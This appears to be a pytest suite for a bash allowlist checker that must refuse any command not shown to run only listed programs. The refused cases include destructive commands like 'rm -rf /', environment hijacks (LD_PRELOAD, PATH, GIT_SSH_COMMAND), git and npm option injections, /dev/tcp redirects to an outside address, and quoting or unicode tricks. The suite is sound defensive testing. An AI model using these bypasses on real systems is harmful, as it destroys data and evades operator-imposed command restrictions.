"""Bash rules: what cannot be shown to run only the programs of the list is refused, and real bash
is asked whether that is true.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parachuted.access.bash_rules import check_command

ALLOWED = ("git", "npm", "ls", "cat", "grep")

RUNS = r"""
git status
git   log --oneline -5
'git' log
"git" log
g"i"t log
\git log
git log | cat
git log |& cat
git status; git log
git status && npm test || ls
git add . & git log
git log > /tmp/out.txt
git log >> out.txt 2>&1
git log 2>/dev/null
git log &> out.txt
cat < in.txt
cat <<< "hello $USER"
git commit -m "a; rm -rf / | b && c"
git commit -m 'a `rm` $(rm) b'
git commit -m "costs \$5 and \`x\`"
git commit -m "$(cat notes.md)"
git log --since="$(cat since.txt | grep 2026)"
cat $(git ls-files)
cat <(git log) <(git status)
git log # rm -rf /
# only a remark
cd work && git status
cd "$(git rev-parse --show-toplevel)" && ls
x=1
x=$(git log); echo "$x"
name='a b' other=2; git log "$name"
LC_ALL=C ls
TZ=UTC git log
echo hello; pwd; true; false; :
printf '%s\n' "$x"
if git diff --quiet; then echo same; else git diff; fi
if [ -f package.json ]; then npm test; elif [ "$a" = "b" ]; then ls; fi
while git status; do break; done
until git status; do exit 1; done
for f in *.md; do git add "$f"; done
for f in $(git ls-files); do cat "$f"; done
(cd work; git status)
{ git status; git log; } > out.txt
! git diff --quiet
[ -n "$x" ] && git log
test ! -f a.txt
git log HEAD~1..HEAD
git show HEAD:./a.md
git log --format='%h %s' -- 'a b.md'
git log --pretty=format:"%h"
ls *.md ?.txt [ab].md {a,b}.md ~
git stash apply stash@{0}
git checkout -b new
git rebase main
git config --get user.name
git config user.name "Ada"
git config --list
git -C work status
git --no-pager log
npm install
npm run build
npm test -- --watch=false
npm --version
npm ci
git log $'a\nb'
echo a#b
git status;
git log \
  --oneline
git commit -m "first
second"
echo $? $# $1 "$@" ${x} $$
ls 2>&1 >/dev/null
git clone https://example.org/a.git
grep -r "a\|b" .
grep '$(rm)' a.md
"""

REFUSED = r"""
rm -rf /
git status; rm -rf /
git status && rm x
git status || rm x
git status | rm x
git status |& rm x
git status & rm x
(rm x)
{ rm x; }
! rm x
if rm x; then git log; fi
if git log; then rm x; fi
if git log; then ls; elif rm x; then ls; fi
if git log; then ls; else rm x; fi
while rm x; do break; done
while git log; do rm x; done
for f in a; do rm "$f"; done
for f in $(rm x); do ls; done
git log $(rm x)
git log "$(rm x)"
git log "a$(cat $(rm x))b"
git log `rm x`
git log "`rm x`"
cat <(rm x)
git log > >(rm x)
git log > "$(rm x)"
cat <<< "$(rm x)"
x=$(rm y)
x=$(rm y) git log
echo $(rm x)
cd $(rm x)
[ -f "$(rm x)" ]
$x
$x log
"$x" log
${x} log
$(git log)
"$(cat x)" a
`cat x`
g$x log
gi? log
g*t log
[g]it log
{git,rm} log
~/git log
g{i,}t log
./git log
/usr/bin/git log
/tmp/git log
../git status
bin/git
PATH=/tmp git log
PATH=/tmp
PATH=/tmp; git log
path=(/tmp)
LD_PRELOAD=/tmp/x.so git log
LD_PRELOAD=/tmp/x.so; git log
GIT_SSH_COMMAND='sh -c rm' git fetch
GIT_EXTERNAL_DIFF=rm git diff
GIT_PAGER=rm git log
PAGER=rm git log
EDITOR=rm git commit
BASH_ENV=/tmp/x git log
ENV=/tmp/x git log
IFS=x
HOME=/tmp git log
npm_config_script_shell=/tmp/x npm test
npm_config_x=1
http_proxy=http://x git fetch
https_proxy=http://x
x=1 git log
NODE_OPTIONS=--require=/tmp/x npm test
for PATH in /tmp; do git log; done
for LD_PRELOAD in /tmp/x; do git log; done
a[0]=1
a[$(rm x)]=1
a=(1 2)
a+=(1)
PATH+=:/tmp
eval "rm x"
eval git log
source x.sh
. x.sh
. ./x.sh
exec rm x
exec git log
command rm x
command git log
builtin eval rm
alias git=rm
unalias git
alias
trap 'rm x' EXIT
hash -p /tmp/x git
enable -f /tmp/x.so y
export PATH=/tmp
export x
declare PATH=/tmp
declare -x PATH=/tmp
typeset -x a=1
local x=1
readonly PATH
set -a
set -- a
shopt -s expand_aliases
read PATH
read x < f
mapfile -C rm x
let 'a[$(rm x)]=1'
unset PATH
coproc rm x
time rm x
time git log
function git { rm x; }
git() { rm x; }
git () { rm x; }
f() { git log; }; f
case x in x) rm y;; esac
case $x in *) git log;; esac
select x in a; do rm y; done
[[ -f x ]]
[[ -v 'a[$(rm x)]' ]]
(( a = 1 ))
((a[$(rm x)]))
echo $((1+1))
echo $((a[$(rm x)]))
echo $[a[$(rm x)]]
echo ${x:-$(rm y)}
echo "${x:-`rm y`}"
echo ${x@P}
echo ${!x}
echo ${x[$(rm y)]}
echo ${#x[@]}
echo "${x/a/b}"
[ -v 'a[$(rm x)]' ]
test -v 'a[$(rm x)]'
test -R x
[ $x 'a[$(rm x)]' ]
[ "$x" "$y" ]
[ -f a -o -v 'b[$(rm x)]' ]
[ -f a
printf -v PATH /tmp
printf "$x" PATH /tmp
printf $x
exit $x
exit 'a[0]'
env git log
env -i rm
env PATH=/tmp git log
xargs rm
cat x | xargs git add
sudo git log
doas git log
nice git log
nohup git log
timeout 5 git log
stdbuf -o0 git log
busybox rm x
sh -c 'rm x'
sh x.sh
bash -c "git log"
bash <<< "rm x"
git log | sh
git log | bash -s
cat x.sh | sh
python3 -c 'import os'
perl -e 'x'
node x.js
npx cowsay
awk 'BEGIN{system("rm x")}'
find . -exec rm {} +
git -c alias.x='!rm y' x
git -c core.pager=rm log
git -c core.sshCommand=rm fetch
git --exec-path=/tmp log
git --exec-path /tmp log
git --config-env=core.pager=X log
git --git-dir=/tmp/evil log
git -p log
git $x log
git "$x" log
git $(cat x) log
git {-c,x} log
git config alias.x '!rm y'
git config --global core.pager rm
git config core.hooksPath /tmp
git config $x y
git config --add filter.x.clean rm
git config --global --edit x y
git rebase -x 'rm y' main
git rebase -ix 'rm y' main
git rebase --exec 'rm y' main
git rebase --exec='rm y' main
git rebase --exe 'rm y' main
git rebase --ex$x main
git fetch --upload-pack 'rm y' origin
git clone -u 'rm y' x
git clone -c core.sshCommand=rm x
git clone --config core.sshCommand=rm x
git clone 'ext::sh -c rm% y'
git push --receive-pack=rm x
git grep -Orm x
git grep --open-files-in-pager=rm x
git bisect run rm
git submodule foreach rm
git submodule foreach 'git log'
git filter-branch --tree-filter rm
git difftool -x rm
git mergetool
git daemon
git hook run pre-commit
git diff --ext-diff
npm exec rm
npm x rm
npm --yes exec rm
npm explore x
npm init evil
npm config set script-shell /tmp/x
npm --script-shell=/tmp/x test
npm test --script-shell /tmp/x
npm $x
npm run build --node-options=--require=/tmp/x
git log > /dev/tcp/10.0.0.1/80
cat < /dev/udp/10.0.0.1/53
git log > /dev/sda
git log > $x
git log > "$x/y"
{PATH}> x
git log {fd}>x
exec 3<>/dev/tcp/a/1
cat <<EOF
cat << 'a
git log 'a
git log "a
git log \
git log )
( git log
{ git log
if git log; then
git log;; ls
fi
then git log
do ls
} git log
}
in a
git log $"a"
git log $'a
cat <<-
=git log
git!x
'git log'
" git" log
"" rm
'' git
if
"""


def lines(text: str) -> list[str]:
    """One command a line; a line that begins with spaces, or follows an open quote, belongs to the
    one before.
    """
    return [one for one in text.strip("\n").split("\n") if one]


MANY_LINES_RUN = [
    "git commit -m \"$(cat <<'EOF'\nSubject\n\nBody with `rm`, $(rm) and 'quotes\nEOF\n)\"",
    "cat <<'EOF' > a.md\n$(rm x)\n`rm`\nEOF\ngit add a.md",
    "cat <<EOF\nhello $USER and ${x}\nEOF",
    "cat <<-'EOF'\n\t$(rm x)\n\tEOF\nls",
    "cat <<'A' <<'B'\n$(rm)\nA\n`rm`\nB\nls",
    "git status\ngit log\n\n\nls",
    "git log &&\n  git status |\n  cat",
    "if git diff\nthen\n  git add .\n  # a remark about rm\n  git commit -m x\nfi",
    "for f in a b\ndo\n  ls\ndone\ngit log",
    "git log \\\n  --oneline \\\n  | cat",
    "gi\\\nt log",
    "git commit -m 'a\nrm -rf /\n'",
    "{\n  git log\n  ls\n}",
]
MANY_LINES_REFUSED = [
    "git status\nrm -rf /",
    "git status\n\n  rm x",
    "# remark\nrm x",
    "echo a # 'remark\nrm x\n# '",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF",
    "cat <<EOF\n${x:-$(rm)}\nEOF",
    "cat <<EOF\nfoo \\\nEOF\nrm x\nEOF",
    "cat <<'EOF'\nhello\nEOF\nrm x",
    "cat <<'EOF'\nhello\nEOF \nrm x\nEOF",
    "echo $(cat <<'EOF'\nx\nEOF)\nrm y\nEOF\n)",
    "cat <<EOF | rm\nx\nEOF",
    "cat <<'EOF' ; rm x\na\nEOF",
    "cat <<'A' $(ls\n) \nA",
    "cat <<'A' \"x\ny\"\nA",
    "cat <<'A' \\\nx\nA",
    "cat <<'EOF'\nnever ends",
    "cat <<$x\na\n$x",
    "r\\\nm x",
    "git log |\nrm x",
    "git log &&\nrm x",
    "git() {\n rm x\n}",
    "git log\rrm x",
    "git log\0rm x",
    "git\u00a0log",
    "echo a\u00a0# '\nrm x\n# '",
    "echo a\u2003b",
    "git\u200b log",
    "echo a\x0bb",
    "$(\nrm x\n)",
    "echo $( # remark )\nrm x )",
    "( " * 5_000,
    "$(" * 5_000,
    "{ " * 50_000,
    "if " * 30_000,
    'echo "$(' * 3_000,
    "git " + "x" * 100_001,
]


def test_what_plainly_runs_only_listed_programs_runs():
    commands = [
        *lines(RUNS.replace("\\\n  --oneline", "\\@@").replace("first\nsecond", "first")),
        *MANY_LINES_RUN,
    ]
    objections = {
        command: check_command(command.replace("\\@@", "--oneline"), ALLOWED)
        for command in commands
    }

    assert {command: said for command, said in objections.items() if said is not None} == {}


def test_whatever_else_is_refused_with_words():
    words = "You may run git, npm, ls, cat, grep"
    objections = {
        command: str(check_command(command, ALLOWED))
        for command in (*lines(REFUSED), *MANY_LINES_REFUSED)
    }

    assert {command: said for command, said in objections.items() if words not in said} == {}


def test_there_are_two_hundred_of_them():
    assert (
        len(lines(RUNS)) + len(lines(REFUSED)) + len(MANY_LINES_RUN) + len(MANY_LINES_REFUSED) > 300
    )


@pytest.mark.parametrize("command", ["git log", "rm -rf /", ""])
def test_any_shell_and_no_shell_are_what_they_say(command):
    assert check_command(command, allowed=True) is None
    assert "no shell" in str(check_command(command, allowed=False))
    assert "no shell" in str(check_command(command, ()))


@pytest.mark.parametrize(
    "name",
    [
        "eval",
        "env",
        "xargs",
        "sudo",
        "sh",
        "bash",
        "source",
        "exec",
        "command",
        "npx",
        "timeout",
        "alias",
        ".",
    ],
)
def test_what_runs_whatever_it_is_given_is_refused_though_it_is_listed(name):
    assert check_command(f"{name} git log", (name, "git")) is not None


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("find . -name '*.md'", True),
        ("find . -type f -delete", True),
        ("find . -exec rm {} ;", False),
        ("find . -execdir rm {} +", False),
        ("find . -ok rm", False),
        ("find $x", False),
        ('find "$x" rm', False),
        ("find ./$x -name a", True),
        ("find . -ex$x rm", False),
        ("find . '-exec' rm", False),
        ("tar xf a.tar", True),
        ("tar -xf a.tar --to-command=rm", False),
        ("tar cf a.tar --checkpoint-action=exec=rm", False),
        ("tar xIf rm a.tar", False),
        ("tar -I rm -xf a.tar", False),
        ("tar --use-compress=rm -xf a", False),
        ("sort a.txt", True),
        ("sort --compress-program=rm a", False),
        ("rg --pre rm x", False),
        ("rg --pretty x", True),
        ("rsync -ave rm a b", False),
    ],
)
def test_the_plainest_ways_of_other_programs_to_run_one(command, runs):
    assert (check_command(command, ("find", "tar", "sort", "rg", "rsync")) is None) == runs


_PIECES = st.sampled_from(
    [
        "git",
        "npm",
        "evil",
        "log",
        "x",
        "PATH",
        "=",
        "/tmp",  # noqa: S108
        ".",
        "./",
        "$",
        "$x",
        "${x}",
        "${",
        "}",
        "{",
        "(",
        ")",
        "$(",
        "$((",
        "`",
        "'",
        '"',
        "\\",
        ";",
        "&",
        "&&",
        "|",
        "||",
        "|&",
        "\n",
        " ",
        " ",
        " ",
        "\t",
        "#",
        "<",
        ">",
        "<<",
        "<<<",
        "EOF",
        "\nEOF\n",
        "<(",
        ">(",
        "&>",
        "2>",
        "/dev/null",
        "if ",
        "then ",
        "fi",
        "for ",
        "in ",
        "do ",
        "done",
        "while ",
        "! ",
        "case ",
        "esac",
        "eval ",
        "echo ",
        "cd ",
        "[ ",
        " ]",
        "*",
        "?",
        "[",
        "]",
        "~",
        ",",
        "a=1 ",
        "$'",
        '$"',
        "-c",
        "--",
        "exit",
        "true",
        ". ",
        "env ",
        "<<'EOF'\n",
        "$@",
        "f()",
        "\u00a0",
        "[[ ",
        "x=$(",
        "time ",
        "{ ",
        "; }",
    ]
)
_LINES = st.lists(_PIECES, min_size=1, max_size=14).map("".join)


@pytest.fixture(scope="session")
def programs(tmp_path_factory) -> Path:
    """A folder of programs that note that they were run.

    `git` and `npm` are listed; `evil` and the others are not.
    """
    folder = tmp_path_factory.mktemp("programs")
    for name in (
        "git",
        "npm",
        "evil",
        "log",
        "x",
        "xgit",
        "gitx",
        "EOF",
        "env",
        "EOFgit",
        "a",
        "in",
        "PATH",
        "-c",
        "tmp",
        "case",
        "esac",
    ):
        script = folder / name
        script.write_text(f"#!/bin/sh\necho {name} >> '{folder}/ran.txt'\n")
        script.chmod(0o755)
    return folder


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is what is asked")
@settings(max_examples=4 * settings.default.max_examples)
@given(line=_LINES)
def test_real_bash_runs_nothing_else_of_what_is_allowed(line, programs, tmp_path):
    if check_command(line, ("git", "npm")) is not None:
        return
    ran = programs / "ran.txt"
    ran.unlink(missing_ok=True)
    shell = shutil.which("bash") or ""
    env = {"PATH": str(programs), "x": "evil"}
    subprocess.run(
        [shell, "-c", line],
        cwd=tmp_path,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
        check=False,
    )

    assert set(ran.read_text().split() if ran.exists() else []) <= {"git", "npm"}, line


@given(text=st.text(max_size=200))
def test_any_text_is_answered(text):
    assert check_command(text, ("git",)) is None or "You may run git" in str(
        check_command(text, ("git",))
    )


@given(
    line=_LINES,
    program=st.sampled_from(
        ["evil", "rm -rf x", "./git", "../git", "$x", "g*t", "eval git", "PATH=. git"]
    ),
)
def test_no_beginning_hides_a_program_that_is_not_listed(line, program):
    before = check_command(line, ("git", "npm"))
    if (
        before is None
        and not line.rstrip(" \t").endswith(("\\", "#"))
        and "#" not in line
        and "<<" not in line
    ):
        assert check_command(f"{line}\n{program}", ("git", "npm")) is not None
